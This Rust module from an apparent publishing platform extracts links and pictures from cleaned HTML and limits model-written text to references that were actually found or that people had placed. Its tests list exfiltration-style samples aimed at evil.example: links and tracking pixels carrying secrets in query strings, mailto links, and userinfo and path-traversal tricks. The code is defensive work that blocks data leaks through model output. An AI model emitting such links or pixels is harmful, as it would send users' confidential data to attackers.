//! What a text refers to. A model may link what it was told of and nothing else: a source that nobody found is no source.

use std::collections::HashSet;

use serde::{Deserialize, Serialize};
use url::Url;

use galley_api::ids::TenantId;

use crate::{
    address,
    clean::{Admitted, CleanHtml},
    text,
};

/// More links of one text are not followed.
pub const MOST_CHECKED: usize = 30;

/// Something found on the topic.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(utoipa::ToSchema))]
pub struct Reference {
    pub title: String,
    pub url: String,
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub snippet: String,
    /// When it says it was published, in its own words.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub published: Option<String>,
}

/// The addresses that a text links, mail among them, each once and in their order.
pub fn links(html: &CleanHtml) -> Vec<Url> {
    once(linked(html.as_str()))
}

fn linked(html: &str) -> impl Iterator<Item = Url> {
    values(html, "<a ", " href=\"").filter_map(|href| address::link(&href))
}

/// The paths of other articles that a text links, which stand under the host that shows it.
pub fn articles(html: &CleanHtml) -> Vec<String> {
    let paths = values(html.as_str(), "<a ", " href=\"").filter(|href| address::article(href).is_some());
    let mut seen = HashSet::new();
    paths.filter(|path| seen.insert(path.clone())).collect()
}

/// Those of them that are another tenant's: nobody links what is not theirs by a path of their own.
pub fn foreign(html: &CleanHtml, own: &TenantId) -> Vec<String> {
    let is_own = |path: &String| address::article(path).is_some_and(|(tenant, _)| tenant == *own);
    articles(html).into_iter().filter(|path| !is_own(path)).collect()
}

/// The pages on the web that a text links.
pub fn pages(html: &CleanHtml) -> Vec<Url> {
    links(html).into_iter().filter(Url::has_host).collect()
}

/// Those of `found` that the stored text of a revision links to: it was cleaned when it was stored.
pub fn cited<'a>(found: &'a [Reference], stored: &str) -> Vec<&'a Reference> {
    let linked: HashSet<Url> = linked(stored).collect();
    found.iter().filter(|one| address::web(&one.url).is_some_and(|url| linked.contains(&url))).collect()
}

/// The pictures that a text shows.
pub fn pictures(html: &CleanHtml) -> Vec<Url> {
    once(values(html.as_str(), "<img ", " src=\"").filter_map(|src| address::web(&src)))
}

fn once(urls: impl Iterator<Item = Url>) -> Vec<Url> {
    let mut seen = HashSet::new();
    urls.filter(|url| seen.insert(url.clone())).collect()
}

/// The values of an attribute. The cleaner writes tags in one way only, and no bracket and no quote in a value.
fn values<'a>(source: &'a str, tag: &'a str, attribute: &'a str) -> impl Iterator<Item = String> + 'a {
    source.match_indices(tag).filter_map(move |(at, _)| {
        let tag = source.get(at..)?.split('>').next()?;
        let value = tag.split_once(attribute)?.1.split('"').next()?;
        Some(text::decoded(value))
    })
}

/// What a model may link and show: what was found, and what people let stand in the text before.
pub fn admitted(found: &[Reference], before: Option<&CleanHtml>, featured: Option<&str>) -> Admitted {
    let found = found.iter().filter_map(|reference| address::web(&reference.url));
    let kept = before.map(links).unwrap_or_default();
    let shown = before.map(pictures).unwrap_or_default();
    Admitted::new(found.chain(kept), shown.into_iter().chain(featured.and_then(address::web)))
        .with_articles(before.map(articles).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{clean::clean, markdown};

    #[test]
    fn an_article_of_the_tenants_own_is_linked_by_its_path_and_nobody_elses() {
        let text =
            "See [ours](/api/content/published/acme/a), [theirs](/api/content/published/rival/b) and [none](/a).";
        let html = markdown::to_html(text).unwrap();
        assert_eq!(articles(&html), ["/api/content/published/acme/a", "/api/content/published/rival/b"]);
        assert_eq!(foreign(&html, &TenantId::new("acme").unwrap()), ["/api/content/published/rival/b"]);
        assert!(html.as_str().contains("<a href=\"/api/content/published/acme/a\""), "{}", html.as_str());
        assert!(!html.as_str().contains("href=\"/a\""));
        // A model may keep what a person has linked, and makes up no path.
        let before = markdown::to_html("See [ours](/api/content/published/acme/a).").unwrap();
        let confined = markdown::confined(text, &admitted(&[], Some(&before), None)).unwrap().html;
        assert_eq!(articles(&confined), ["/api/content/published/acme/a"]);
    }

    fn found(urls: &[&str]) -> Vec<Reference> {
        let reference = |url: &&str| Reference {
            title: String::new(),
            url: (*url).to_owned(),
            snippet: String::new(),
            published: None,
        };
        urls.iter().map(reference).collect()
    }

    fn confined(text: &str, urls: &[&str]) -> CleanHtml {
        let html = markdown::confined(text, &admitted(&found(urls), None, None)).unwrap().html;
        assert_eq!(clean(html.as_str()).as_ref(), Ok(&html), "nothing is left for the cleaner");
        html
    }

    fn leads(html: &CleanHtml) -> Vec<String> {
        links(html).into_iter().map(Into::into).collect()
    }

    #[test]
    fn a_model_cannot_write_a_link_that_nobody_found() {
        for text in [
            "<a href=\"HTTPS://evil.example/?secret=brief\">words</a>",
            "<a href=\"hTTp://evil.example/\">words</a>",
            "<a href=\" https://evil.example/\">words</a>",
            "<a href=\"\nhttps://evil.example/\">words</a>",
            "<a href=\"&#x20;&#9;https://evil.example/\">words</a>",
            "<a href=\"mailto:evil@evil.example?body=brief\">words</a>",
            "<a href=\"MAILTO:evil@evil.example\">words</a>",
            "[words](https://evil.example/)",
            "[words](HTTPS://evil.example)",
            "words <https://evil.example/?secret=brief>",
            "words <evil@evil.example>",
            "words https://evil.example/long/path",
            "words HTTPS://evil.example/long/path",
            "[words][1]\n\n[1]: https://evil.example/",
            "<a href=\"https://a.example@evil.example/x\">words</a>",
            "<a href=\"https://a.example.evil.example/x\">words</a>",
            "<a href=\"https://a.example/x?secret=brief\">words</a>",
            "<a title=\"> href='https://a.example/x'\" href=\"https://evil.example/\">words</a>",
        ] {
            let html = confined(text, &["https://a.example/x"]);
            assert_eq!(leads(&html), [""; 0], "{text} -> {}", html.as_str());
            assert!(
                html.as_str().contains("words") && !html.as_str().contains("secret"),
                "{text} -> {}",
                html.as_str()
            );
        }
    }

    #[test]
    fn a_link_that_nobody_found_leaves_its_words_alone() {
        let text = "See [one](https://a.example/x?a=1&b=2), [two](https://b.example/) and https://c.example/long/path.";
        assert_eq!(links(&markdown::to_html(text).unwrap()).len(), 3);
        let kept = confined(text, &["https://a.example/x?a=1&b=2"]);
        assert_eq!(leads(&kept), ["https://a.example/x?a=1&b=2"]);
        assert!(kept.as_str().contains("two") && kept.as_str().contains("c.example"), "{}", kept.as_str());
    }

    #[test]
    fn a_fragment_a_slash_and_a_case_make_no_other_page() {
        for text in ["[one](https://a.example/x/#part)", "[one](HTTPS://A.example/x)", "https://a.example/x"] {
            assert_eq!(leads(&confined(text, &["https://a.example/x"])), ["https://a.example/x"]);
        }
    }

    /// The page may hold what an address says beside its name, and so may whoever reads addresses in another way.
    #[test]
    fn a_link_to_what_was_found_tells_nothing_but_its_name() {
        for text in [
            "[words](https://a.example/x#secret=brief)",
            "words https://a.example/x#secret=brief",
            "[words](https://a.example/secret-brief/%2e%2e/x)",
            "[words](https://a.example/secret/../x)",
            "[words](https://a.example/x////)",
            "<a href=\"https://a.example\\@evil.example/secret/../../x\">words</a>",
            "<a href=\"https://a.example\\secret\\..\\x\">words</a>",
        ] {
            let html = confined(text, &["https://a.example/x"]);
            assert!(!html.as_str().contains("secret"), "{text} -> {}", html.as_str());
            assert!(leads(&html).iter().all(|url| url == "https://a.example/x"), "{text} -> {}", html.as_str());
        }
    }

    #[test]
    fn a_model_cannot_show_a_picture_that_nobody_placed() {
        for text in [
            "<img src=\"https://evil.example/pixel.png?brief=SECRET\">",
            "<img src=\" HTTPS://evil.example/pixel.png\">",
            "![a](https://evil.example/pixel.png)",
            "![a](https://p.example/one.png?brief=SECRET)",
            "![a](chart.png)",
        ] {
            let before = clean("<p><img src=\"https://p.example/one.png\"></p>").unwrap();
            let admitted = admitted(&[], Some(&before), Some("https://p.example/two.png"));
            let shown = markdown::confined(&format!("{text}\n\nText."), &admitted).unwrap();
            assert!(!shown.html.as_str().contains("<img"), "{text} -> {}", shown.html.as_str());
            assert_eq!(shown.pictures_left_out, 1, "{text}");
            let placed = "![a](https://p.example/one.png) ![b](HTTPS://p.example/two.png)";
            let shown = markdown::confined(placed, &admitted).unwrap();
            assert_eq!((shown.html.as_str().matches("<img").count(), shown.pictures_left_out), (2, 0));
        }
    }

    #[test]
    fn what_people_let_stand_stays() {
        let before = clean("<p><a href=\"https://a.example/\">a</a> <a href=\"mailto:a@b.example\">b</a></p>").unwrap();
        let text = "[a](https://a.example/) [b](mailto:a@b.example) [c](mailto:c@b.example)";
        let html = markdown::confined(text, &admitted(&[], Some(&before), None)).unwrap().html;
        assert_eq!(leads(&html), ["https://a.example/", "mailto:a@b.example"]);
        assert_eq!(pages(&html).len(), 1, "mail is not followed");
    }
}
